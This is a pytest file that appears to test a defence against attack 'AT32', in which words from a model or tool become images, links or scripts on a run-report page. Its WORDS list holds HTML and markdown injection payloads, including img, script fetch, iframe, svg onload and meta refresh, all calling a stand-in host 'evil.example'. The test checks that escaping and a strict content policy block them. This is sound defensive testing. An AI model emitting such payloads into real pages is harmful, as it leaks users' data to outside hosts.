"""AT32: words of the model or of a tool become an image, a link, a frame or a script on a page that a person opens.

Defence: surfaces/cli/report/run_steps.py and page.py: every foreign word is escaped, and the page's policy forbids every load
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest

from setsquare import wire
from setsquare.adapters.scripted import Scripted, Turn
from setsquare.journeys.run_review import review
from setsquare.surfaces.cli.report.run_page import run_page

EVIL = "evil.example"
WORDS = (
    f"<img src=https://{EVIL}/leak?d=1>", f"![x](https://{EVIL}/leak)", f"[click](https://{EVIL}/)", f"<script>fetch('https://{EVIL}')</script>", f"<iframe src=//{EVIL}>", f"<svg onload=fetch('//{EVIL}')>", f"</pre><link rel=stylesheet href=//{EVIL}>",
    f"<style>@import url(//{EVIL})</style>", f'"><img src=//{EVIL}>', f"'><a href=//{EVIL}>x</a>", f'```mermaid\nclick a href "https://{EVIL}"\n```', f"<meta http-equiv=refresh content='0;url=//{EVIL}'>", f"<base href=//{EVIL}>", f"<object data=//{EVIL}>", f"<form action=//{EVIL}>", f"<body background=//{EVIL}>", f"<video poster=//{EVIL}>",
)  # fmt: skip


LOADING = {
    "src",
    "srcset",
    "srcdoc",
    "href",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "style",
    "content",
    "cite",
    "ping",
    "xlink:href",
}


class Loads(HTMLParser):
    """Finds what a browser would load, run or follow."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: Any) -> None:
        self.found += [
            f"{tag} {name}" for name, value in attributes if value and EVIL in value and (name in LOADING or name.startswith("on"))
        ]
        self.found += [tag] if tag in {"iframe", "object", "base", "form", "video", "link"} else []


@pytest.mark.attack("AT32")
@pytest.mark.parametrize("is_permissive", [False, True], ids=["real", "permissive"])
def test_at32_the_page_of_a_run_loads_nothing(assault: Any, acts: Any, monkeypatch: pytest.MonkeyPatch, is_permissive: bool) -> None:
    act, write, shell = acts
    text = "\n".join(WORDS)
    turns = [
        write("src/words.md", text),
        act("read", path="src/words.md"),
        shell("cat src/words.md"),
        act("search", pattern=WORDS[0], path="src"),
        act("read", path=f"src/{WORDS[0]}"),
    ]
    assault(model=Scripted((*turns, Turn(text=text))))
    if is_permissive:
        for place in ("run_steps", "run_page"):
            for name in ("escape", "shown"):
                monkeypatch.setattr(f"setsquare.surfaces.cli.report.{place}.{name}", lambda words, **_: words)
    made = run_page(review(wire.app_for(assault.hostile.folder), assault.hostile.report.run))
    loads = Loads()
    loads.feed(made)
    assert bool(loads.found) is is_permissive, loads.found
    assert "default-src 'none'" in made
    assert EVIL in made
